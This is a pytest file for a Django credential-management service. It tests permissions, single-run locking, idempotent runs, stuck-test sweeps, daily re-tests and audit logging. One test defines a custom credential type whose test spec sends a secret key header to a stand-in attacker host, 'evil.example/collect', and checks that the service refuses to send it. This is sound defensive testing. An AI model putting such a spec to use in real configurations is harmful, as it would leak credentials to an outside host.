"""The credential test services: permissions, one run at a time, idempotent runs, the sweep, daily re-tests.

Tasks run in-process here (eager), on commit; the worker and the broker are in tests/integration.
"""

from __future__ import annotations

import socket
from datetime import timedelta

import pytest
from django.utils import timezone

from audit.models import AuditEvent
from credentials.errors import CredentialNotFound, CredentialPermissionDenied
from credentials.models import Credential, CredentialType
from credentials.services import credential_create, credential_update
from credentials.sharing import credential_share
from credentials.testers.runs import (
    credential_retest_scheduled,
    credential_test_request,
    credential_test_run,
    credential_tests_sweep,
)
from tests.conftest import require_service
from tests.factories import make_credential, make_user
from tests.integration.servers import free_port


def postgres_fields(port: int, password: str = "pw-unused") -> dict:
    return {"host": "127.0.0.1", "port": port, "database": "postgres", "username": "postgres", "password": password}


def unreachable(owner, **extra) -> Credential:
    return credential_create(
        actor=owner, type_slug="postgres", name=f"down-{free_port()}", fields=postgres_fields(free_port()), **extra
    )


def run_queued(django_capture_on_commit_callbacks, **request) -> Credential:
    with django_capture_on_commit_callbacks(execute=True):
        credential_test_request(**request)
    return Credential.objects.get(pk=request["credential_id"])


def test_a_stranger_gets_not_found_and_a_viewer_is_refused(owner, stranger):
    credential = make_credential(owner)
    viewer = make_user("viewer")
    credential_share(actor=owner, credential_id=credential.pk, permissions=["view"], user=viewer)

    with pytest.raises(CredentialNotFound):
        credential_test_request(actor=stranger, credential_id=credential.pk)
    with pytest.raises(CredentialPermissionDenied):
        credential_test_request(actor=viewer, credential_id=credential.pk)
    assert Credential.objects.get(pk=credential.pk).test_status == ""


def test_a_request_marks_it_running_and_queues_the_task_on_commit(owner, django_capture_on_commit_callbacks):
    credential = make_credential(owner)

    with django_capture_on_commit_callbacks() as callbacks:
        returned = credential_test_request(actor=owner, credential_id=credential.pk)

    assert returned.test_status == "running" and returned.test_run is not None
    assert len(callbacks) == 1
    # A second request while it runs starts nothing.
    with django_capture_on_commit_callbacks() as again:
        second = credential_test_request(actor=owner, credential_id=credential.pk)
    assert second.test_run == returned.test_run and again == []


def test_a_test_stuck_past_its_limit_may_be_started_again(owner, django_capture_on_commit_callbacks):
    credential = make_credential(owner)
    first = credential_test_request(actor=owner, credential_id=credential.pk)
    Credential.objects.filter(pk=credential.pk).update(test_started_at=timezone.now() - timedelta(hours=1))

    with django_capture_on_commit_callbacks() as callbacks:
        second = credential_test_request(actor=owner, credential_id=credential.pk)

    assert second.test_run != first.test_run and len(callbacks) == 1


def test_postgres_passes_against_the_real_server(owner, eager_tasks, django_capture_on_commit_callbacks):
    try:
        socket.create_connection(("127.0.0.1", 5432), timeout=2).close()
        reachable = True
    except OSError:
        reachable = False
    require_service(reachable, "PostgreSQL is not reachable on 127.0.0.1:5432")
    credential = credential_create(actor=owner, type_slug="postgres", name="local", fields=postgres_fields(5432))
    Credential.objects.filter(pk=credential.pk).update(test_failures=3)

    result = run_queued(django_capture_on_commit_callbacks, actor=owner, credential_id=credential.pk, ip="10.1.2.3")

    assert result.test_status == "passed", result.test_message
    assert result.test_failures == 0  # a pass ends a run of failures
    assert result.test_message.startswith("Connected to 127.0.0.1:5432/postgres as postgres and ran SELECT 1")
    actions = list(AuditEvent.objects.filter(credential_ref=str(credential.pk)).values_list("action", flat=True))
    assert actions[:2] == ["tested", "accessed"]  # newest first: the door's event, then the test's
    ips = AuditEvent.objects.filter(credential_ref=str(credential.pk), action__in=["tested", "accessed"])
    assert set(ips.values_list("ip", flat=True)) == {"10.1.2.3"}


def test_failures_are_counted_in_a_row_flagged_and_reset_by_a_pass(
    owner, eager_tasks, django_capture_on_commit_callbacks, settings
):
    settings.CREDENTIAL_TEST_FLAG_AFTER = 2
    credential = unreachable(owner)

    for expected in (1, 2):
        result = run_queued(django_capture_on_commit_callbacks, actor=owner, credential_id=credential.pk)
        assert (result.test_status, result.test_failures) == ("failed", expected)
    assert "refused the connection" in result.test_message
    from credentials.api.serializers import CredentialOutput

    output = CredentialOutput(result, context={"permissions": ["view"]}).data
    assert output["test_flagged"] is True and output["test_failures"] == 2


def test_a_run_is_done_once_and_a_replaced_run_does_nothing(owner):
    credential = unreachable(owner)
    started = credential_test_request(actor=owner, credential_id=credential.pk)

    assert credential_test_run(credential_id=credential.pk, run=started.test_run, actor_id=owner.pk) == "failed"
    # The same message delivered again: the run is over.
    assert credential_test_run(credential_id=credential.pk, run=started.test_run, actor_id=owner.pk) is None
    assert AuditEvent.objects.filter(credential_ref=str(credential.pk), action="tested").count() == 1

    newer = credential_test_request(actor=owner, credential_id=credential.pk)
    stale = "00000000-0000-0000-0000-000000000000"
    assert credential_test_run(credential_id=credential.pk, run=stale, actor_id=owner.pk) is None
    assert Credential.objects.get(pk=credential.pk).test_run == newer.test_run


def test_an_expired_credential_fails_its_test_at_the_door(owner):
    credential = unreachable(owner, expires_at=timezone.now() + timedelta(days=1))
    started = credential_test_request(actor=owner, credential_id=credential.pk)
    Credential.objects.filter(pk=credential.pk).update(expires_at=timezone.now() - timedelta(minutes=1))

    assert credential_test_run(credential_id=credential.pk, run=started.test_run, actor_id=owner.pk) == "failed"

    stored = Credential.objects.get(pk=credential.pk)
    assert stored.test_message.startswith("This credential expired at")
    assert AuditEvent.objects.filter(credential_ref=str(credential.pk), action="access_denied").exists()


def test_an_actor_who_lost_use_meanwhile_fails_the_test(owner):
    user = make_user("user")
    credential = unreachable(owner)
    credential_share(actor=owner, credential_id=credential.pk, permissions=["use"], user=user)
    started = credential_test_request(actor=user, credential_id=credential.pk)
    user.is_active = False
    user.save()

    assert credential_test_run(credential_id=credential.pk, run=started.test_run, actor_id=user.pk) == "failed"
    assert "may no longer use" in Credential.objects.get(pk=credential.pk).test_message


def test_a_custom_type_may_not_send_its_secret_to_a_host_it_does_not_allow(owner):
    CredentialType.objects.create(
        slug="acme",
        name="Acme",
        schema=[
            {"name": "base_url", "label": "Base URL", "required": True},
            {"name": "key", "label": "Key", "secret": True, "required": True},
        ],
        test_spec={"url": "http://evil.example/collect", "headers": {"X-Key": "{key}"}},
    )
    credential = credential_create(
        actor=owner, type_slug="acme", name="acme", fields={"base_url": "http://127.0.0.1:1", "key": "key-12345"}
    )
    started = credential_test_request(actor=owner, credential_id=credential.pk)

    assert credential_test_run(credential_id=credential.pk, run=started.test_run, actor_id=owner.pk) == "failed"
    message = Credential.objects.get(pk=credential.pk).test_message
    assert message.startswith("Refused before connecting: This credential may only be sent to 127.0.0.1")


def test_a_custom_type_without_a_test_says_so(owner):
    CredentialType.objects.create(
        slug="plain", name="Plain", schema=[{"name": "key", "label": "Key", "secret": True, "required": True}]
    )
    credential = credential_create(actor=owner, type_slug="plain", name="plain", fields={"key": "plain-key-1"})
    started = credential_test_request(actor=owner, credential_id=credential.pk)

    credential_test_run(credential_id=credential.pk, run=started.test_run, actor_id=owner.pk)

    assert Credential.objects.get(pk=credential.pk).test_message == "Credentials of type Plain have no test."


def test_the_sweep_fails_tests_stuck_past_their_limit_only(owner):
    stuck, recent = unreachable(owner), unreachable(owner)
    for credential in (stuck, recent):
        credential_test_request(actor=owner, credential_id=credential.pk)
    Credential.objects.filter(pk=stuck.pk).update(test_started_at=timezone.now() - timedelta(hours=1))

    assert credential_tests_sweep() == 1

    assert Credential.objects.get(pk=stuck.pk).test_status == "failed"
    assert Credential.objects.get(pk=recent.pk).test_status == "running"
    event = AuditEvent.objects.get(credential_ref=str(stuck.pk), action="tested")
    assert event.details["trigger"] == "sweep" and event.actor_repr == "system"


def test_a_run_reporting_after_the_sweep_failed_it_is_not_counted_twice(owner, monkeypatch):
    from credentials.testers import runs

    credential = unreachable(owner)
    credential_test_request(actor=owner, credential_id=credential.pk)
    run = Credential.objects.get(pk=credential.pk).test_run
    real_outcome = runs._outcome

    def slow_outcome(*args, **kwargs):
        # The worker was only slow: while it ran, the sweep took it for dead and failed the test.
        outcome = real_outcome(*args, **kwargs)
        Credential.objects.filter(pk=credential.pk).update(test_started_at=timezone.now() - timedelta(hours=1))
        assert credential_tests_sweep() == 1
        assert Credential.objects.get(pk=credential.pk).test_failures == 1
        return outcome

    monkeypatch.setattr(runs, "_outcome", slow_outcome)
    assert credential_test_run(credential_id=credential.pk, run=run, actor_id=owner.pk) == "failed"

    late = Credential.objects.get(pk=credential.pk)  # its own result replaced the sweep's, counted once
    assert late.test_failures == 1 and "refused the connection" in late.test_message and late.test_run is None


def test_the_daily_retest_takes_active_unexpired_opted_in_credentials(
    owner, eager_tasks, django_capture_on_commit_callbacks
):
    wanted = unreachable(owner, retest_daily=True)
    unreachable(owner)  # not opted in
    expiring = unreachable(owner, retest_daily=True, expires_at=timezone.now() + timedelta(days=1))
    Credential.objects.filter(pk=expiring.pk).update(expires_at=timezone.now() - timedelta(days=1))
    off = unreachable(owner, retest_daily=True)
    credential_update(actor=owner, credential_id=off.pk, changes={"is_active": False})

    with django_capture_on_commit_callbacks(execute=True):
        assert credential_retest_scheduled() == 1

    assert Credential.objects.get(pk=wanted.pk).test_status == "failed"
    event = AuditEvent.objects.get(credential_ref=str(wanted.pk), action="tested")
    assert event.details["trigger"] == "schedule" and event.actor_id == owner.pk


def test_the_switch_is_a_credential_attribute_changed_by_update(owner):
    credential = make_credential(owner)

    updated = credential_update(actor=owner, credential_id=credential.pk, changes={"retest_daily": True})

    assert updated.retest_daily is True
    event = AuditEvent.objects.filter(credential_ref=str(credential.pk), action="updated").latest("id")
    assert event.details["changes"]["retest_daily"] == {"old": False, "new": True}
